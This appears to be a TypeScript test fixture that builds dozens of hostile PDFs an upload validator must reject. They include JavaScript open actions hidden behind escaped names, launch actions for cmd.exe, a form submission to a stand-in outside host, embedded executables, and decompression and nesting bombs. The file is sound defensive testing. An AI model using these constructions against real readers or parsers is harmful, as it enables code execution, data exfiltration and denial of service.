import { deflateSync } from "node:zlib";
import { objectStream, pdfOf } from "@/lib/platform/uploads/content/sample-files";
import { MARKER, raw } from "../makers";

const SCRIPT = `<</S/JavaScript/JS(app.alert\\(1\\))>>`;
const ATTACHMENT = "<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>";
const withCatalog = (entry: string, objects: string[] = []) =>
  raw(Buffer.from(pdfOf({ objects })).toString("latin1").replace("<</Type/Catalog", `<</Type/Catalog${entry}`));

/** PDFs that do something, carry something, hide something or never end; all of them must be refused. */
export function hostilePdfs(): Record<string, Uint8Array> {
  return {
    "script when opened": withCatalog(`/OpenAction${SCRIPT}`),
    "script by reference": withCatalog("/OpenAction 4 0 R", [SCRIPT]),
    "script under an escaped name": withCatalog("/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"),
    "script among names": withCatalog(`/Names<</JavaScript<</Names[(a)${SCRIPT}]>>>>`),
    "script of an event": withCatalog(`/AA<</WC${SCRIPT}>>`),
    "script in an object stream": pdfOf({ objects: [objectStream({ 9: SCRIPT })], trailer: "/X 9 0 R" }),
    "script in a stream of unknown kind": pdfOf({ objects: [objectStream({ 9: SCRIPT }, "/Type/Obj#53tm")] }),
    "script of a field": pdfOf({ objects: [`<</Type/Annot/Subtype/Widget/A${SCRIPT}>>`] }),
    "form that computes (XFA)": withCatalog("/AcroForm<</XFA[(template) 4 0 R]>>", [
      "<</Length 0>>\nstream\n\nendstream",
    ]),
    "script as a stream": withCatalog("/OpenAction<</S/JavaScript/JS 4 0 R>>", [
      "<</Length 8>>\nstream\nalert(1)\nendstream",
    ]),
    "script, every letter escaped": withCatalog(
      "/OpenAction<</S/#4a#61#76#61#53#63#72#69#70#74/#4a#53(app.alert\\(1\\))>>",
    ),
    "script of a page": pdfOf({ pages: `<</Type/Pages/Kids[3 0 R]/Count 1/AA<</O${SCRIPT}>>>>` }),
    "script after another step": withCatalog(`/OpenAction<</S/Named/N/NextPage/Next[${SCRIPT}]>>`),
    "script that shows a film": withCatalog("/OpenAction<</S/Rendition/JS(app.alert\\(1\\))>>"),
    "a portfolio": withCatalog("/Collection<</Type/Collection>>"),
    "a body in three dimensions": pdfOf({ objects: ["<</Type/Annot/Subtype/3D/3DD 5 0 R>>"] }),
    "names without end": pdfOf({ objects: [`<<${"/A".repeat(80_000)}>>`] }),
    "dictionaries in dictionaries": pdfOf({ objects: ["<</A".repeat(40_000)] }),
    "half a million objects": Buffer.concat([
      raw("%PDF-1.7\n"),
      raw(Array.from({ length: 500_000 }, (_, index) => `${index + 10} 0 obj\n0\nendobj`).join("\n")),
      Buffer.from(pdfOf()).subarray(9),
    ]),
    "starting a program": withCatalog("/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "starting a program, escaped": withCatalog("/OpenAction<</S/L#61unch/F(cmd.exe)>>"),
    "sending a form": withCatalog("/OpenAction<</S/SubmitForm/F(http://jahat.example)>>"),
    "taking data in": withCatalog("/OpenAction<</S/ImportData/F(a.fdf)>>"),
    "going to a file inside": withCatalog("/OpenAction<</S/GoToE/T<</R/C/N(a)>>>>"),
    "a file inside": withCatalog("/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>", [
      ATTACHMENT,
      "<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream",
    ]),
    "a file pinned to a page": pdfOf({ objects: [`<</Type/Annot/Subtype/FileAttachment/FS${ATTACHMENT}>>`] }),
    "a film": pdfOf({ objects: ["<</Type/Annot/Subtype/RichMedia/RichMediaContent<<>>>>"] }),
    encrypted: pdfOf({ trailer: "/Encrypt<</Filter/Standard/V 2/R 3/O(a)/U(b)/P -4>>/ID[(a)(b)]" }),
    "encrypted by reference": pdfOf({
      objects: ["<</Filter/Standard/V 1/R 2/O(a)/U(b)/P -4>>"],
      trailer: "/Encrypt 4 0 R",
    }),
    "a bomb in an object stream": pdfOf({ objects: [bomb(300)] }),
    "a bomb within a bomb": pdfOf({ objects: [nested()] }),
    "a bomb of run lengths": pdfOf({ objects: [runLengths()] }),
    "a bomb in a cross-reference stream": pdfOf({ objects: [bomb(300, "/Type/XRef/Size 4/W[1 2 1]/Root 1 0 R")] }),
    "only a head": raw("%PDF-1.7\n"),
    "cut off in the middle": pdfOf().subarray(0, 120),
    "a page table that goes in circles": pdfOf({ pages: "<</Type/Pages/Kids[2 0 R]/Count 1>>" }),
    "no page": pdfOf({ pages: "<</Type/Pages/Kids[]/Count 0>>" }),
    "arrays without end": pdfOf({ objects: ["[".repeat(60_000)] }),
    "HTML before it": Buffer.concat([raw(`<html>${MARKER}</html>\n`), pdfOf()]),
    "a picture before it": Buffer.concat([raw("\xff\xd8\xff\xe0"), pdfOf()]),
    "a zip behind it": Buffer.concat([pdfOf(), raw("PK\x03\x04"), Buffer.alloc(600)]),
    "two ends, a script between": Buffer.concat([
      pdfOf(),
      raw(`\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction${SCRIPT}>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n`),
    ]),
  };
}

/** So many megabytes of spaces, folded to almost nothing. */
function bomb(megabytes: number, kind = "/Type/ObjStm/N 1/First 4"): string {
  const packed = deflateSync(Buffer.alloc(megabytes * 1_048_576, 0x20)).toString("latin1");
  return `<<${kind}/Filter/FlateDecode/Length ${packed.length}>>\nstream\n${packed}\nendstream`;
}

function nested(): string {
  const twice = deflateSync(deflateSync(Buffer.alloc(100 * 1_048_576, 0x20))).toString("latin1");
  return `<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length ${twice.length}>>\nstream\n${twice}\nendstream`;
}

/** Two bytes that stand for 128. */
function runLengths(): string {
  const packed = "\x81 ".repeat(2_000_000);
  return `<</Type/ObjStm/N 1/First 4/Filter/RunLengthDecode/Length ${packed.length}>>\nstream\n${packed}\nendstream`;
}
